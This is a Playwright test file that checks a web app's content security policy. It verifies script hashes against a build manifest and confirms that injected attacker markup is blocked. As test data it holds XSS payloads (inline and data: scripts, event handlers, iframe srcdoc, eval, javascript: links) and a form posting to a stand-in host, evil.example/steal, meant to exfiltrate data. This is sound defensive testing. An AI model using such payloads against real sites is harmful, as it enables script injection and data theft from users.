import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { areas } from '../support/screenUrls';
import { expect, test } from '../support/fixtures';

// Every test checks that there is no violation: the fixture `guarded` makes an error of each.

for (const { name, account, urls } of areas) {
  test(
    `the ${name} screens open without a violation of the content security policy, with scripts of the manifest only`,
    { tag: '@nightly' },
    async ({ page, login }) => {
      test.setTimeout(120_000);
      const shipped = JSON.parse(readFileSync('dist/scripts.json', 'utf8')) as Record<string, string>;
      const odd: string[] = [];
      const looking: Promise<void>[] = [];
      page.on('response', (response) => {
        if (response.request().resourceType() !== 'script' || response.status() !== 200) return;
        const { pathname } = new URL(response.url());
        looking.push(
          response.body().then(
            (body) => {
              const hash = createHash('sha384').update(body).digest('base64');
              if (shipped[pathname.slice(1)] !== `sha384-${hash}`) odd.push(pathname);
            },
            // The page was closed before the script had arrived.
            () => undefined,
          ),
        );
      });
      if (account) await login(account);
      for (const url of urls) {
        await page.goto(url);
        await expect(page.getByRole('heading', { level: 1 }).first(), url).toBeVisible();
        await expect(page.locator('[aria-busy="true"]'), url).toHaveCount(0);
        expect(await page.locator('script:not([src]), style, [style*="url("]').count(), url).toBe(0);
      }
      await Promise.all(looking);
      expect(odd).toEqual([]);
    },
  );
}

const injected = `
  <script>window.attacked = 'inline script'</script>
  <script src="data:text/javascript,window.attacked='data script'"></script>
  <script src="https://evil.example/x.js"></script>
  <img src="x" onerror="window.attacked = 'handler'">
  <svg onload="window.attacked = 'svg handler'"></svg>
  <iframe srcdoc="<script>parent.attacked = 'frame'</script>"></iframe>
  <object data="data:text/html,<script>parent.attacked='object'</script>"></object>
  <base href="https://evil.example/">
  <style>body { display: none }</style>
  <link rel="stylesheet" href="https://evil.example/x.css">
  <form id="trap" action="https://evil.example/steal" method="post"><input name="a"></form>
`;

/** What a foreign script could try. It runs in a task of the page itself, because scripts of developer tools are allowed. */
const attempts = `
  new Promise((resolve) => setTimeout(() => {
    const link = document.createElement('a');
    link.href = "javascript:window.attacked='address'";
    document.body.append(link);
    link.click();
    for (const attempt of [
      () => eval("window.attacked = 'eval'"),
      () => new Function("window.attacked = 'function'")(),
      () => setTimeout("window.attacked = 'timer'"),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.attacked=1">'),
    ]) {
      try { attempt(); } catch {}
    }
    resolve();
  }))`;

test('content that an attacker adds to the page does not run, load or send anything, and the product still works', async ({
  page,
  login,
  complaints,
}) => {
  await page.route('**/kyubos_admin', async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace('<body>', `<body>${injected}`);
    await route.fulfill({ response: answer, body });
  });
  const loaded: string[] = [];
  page.on('requestfinished', (request) => loaded.push(request.url()));
  await login();
  await expect(page.getByRole('cell', { name: 'Canada' })).toBeVisible();
  await page.evaluate(attempts);
  await expect(page.getByRole('cell', { name: 'Canada' })).toBeVisible();
  await page.evaluate(() => document.querySelector<HTMLFormElement>('#trap')?.submit());
  await expect.poll(() => complaints.join('\n')).toContain('CSP: form-action blocked');
  expect(await page.evaluate(() => Reflect.get(window, 'attacked') as unknown)).toBeUndefined();
  expect(page.url()).toMatch(/user_admin_countries$/);
  expect(loaded.filter((url) => url.includes('evil.example'))).toEqual([]);
  const reported = complaints.splice(0).join('\n');
  for (const directive of ['script-src-elem', 'script-src-attr', 'style-src-elem', 'object-src', 'base-uri'])
    expect(reported).toContain(`CSP: ${directive} blocked`);
});
